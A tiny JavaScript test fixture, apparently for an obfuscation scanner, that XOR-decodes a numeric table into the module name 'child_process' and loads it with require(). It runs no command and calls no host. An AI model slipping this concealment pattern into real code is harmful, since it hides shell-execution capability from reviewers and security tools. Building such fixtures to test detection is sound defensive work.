// defanged fixture: XOR table hiding a module name (decodes to "child_process")
var k = 'k3y';
var t = [[8, 91, 16, 7, 87, 38, 27, 65, 22, 8, 86, 10, 24]];
function d(a) { var o = ''; for (var i = 0; i < a.length; i++) o += String.fromCharCode(a[i] ^ k.charCodeAt(i % k.length)); return o; }
var cp = require(d(t[0]));
